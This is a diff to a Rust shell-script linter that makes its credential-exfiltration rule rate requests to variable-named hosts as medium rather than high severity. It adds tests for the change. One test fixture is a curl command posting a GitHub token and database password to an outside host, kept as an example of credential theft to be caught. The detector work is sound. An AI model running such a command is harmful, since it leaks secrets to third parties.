@@ -674,6 +674,13 @@ fn network_send(script: &Script, i: usize, needle: Option<&str>) -> Option<&'sta
 }
 
 /// The registrable label of a URL's host (`linear` of `https://api.linear.app/x`).
+/// Is the host of `url` a shell variable (`https://$HOST/…`, `https://${API_HOST}:8443`)?
+fn host_is_variable(url: &str) -> bool {
+    url.split("://")
+        .nth(1)
+        .is_some_and(|rest| rest.starts_with('$'))
+}
+
 fn host_label(url: &str) -> String {
     let host = url.split("://").nth(1).unwrap_or("");
     let host = host
@@ -950,13 +957,26 @@ fn secret_sends(text: &str, script: &Script, hits: &mut Vec<Hit>) {
             continue;
         }
         let whole = shown(cmd_text(text, c));
+        // A host a variable names (`https://${APNS_HOST}/…`) is known only at run time: whose
+        // it is cannot be told here, so the request is for a look, not a block.
+        let (severity, verdict) = if host_is_variable(&url) {
+            (
+                Severity::Medium,
+                "a host a variable names, so whose it is is only known at run time: check that it is their service's",
+            )
+        } else {
+            (
+                Severity::High,
+                "a host none of them belongs to: credential theft",
+            )
+        };
         hits.push(Hit {
             rule: CREDENTIAL_FLOW,
-            severity: Severity::High,
+            severity,
             start: c.start,
             end: c.end,
             message: format!(
-                "`{whole}` gathers the secrets `${}` into one request to a host none of them belongs to: credential theft. Remove the request; a credential goes only to its own service.",
+                "`{whole}` gathers the secrets `${}` into one request to {verdict}. Remove the request; a credential goes only to its own service.",
                 names.join("`, `$")
             ),
             anchor: format!("secret-gather:{}", names.join(",")),
@@ -2453,6 +2473,23 @@ mod tests {
         ] {
             assert!(secret_hits(src).is_empty(), "{src}: {:?}", secret_hits(src));
         }
+        // To a host a variable names: found, as medium (whose host it is is not known here).
+        let sev = |src: &str| {
+            let script = shell::parse(src).expect("parses");
+            let mut hits = Vec::new();
+            secret_sends(src, &script, &mut hits);
+            hits.iter().map(|h| h.severity).collect::<Vec<_>>()
+        };
+        assert_eq!(
+            sev(
+                "curl --header \"authorization: bearer $AUTHENTICATION_TOKEN\" https://${APNS_HOST_NAME}/3/device/${DEVICE_TOKEN}"
+            ),
+            [Severity::Medium]
+        );
+        assert_eq!(
+            sev("curl -X POST https://b.example.net -d \"gh=$GITHUB_TOKEN&db=$DB_PASSWORD\""),
+            [Severity::High]
+        );
     }
 
     fn rules(t: &str) -> Vec<(&'static str, Severity)> {
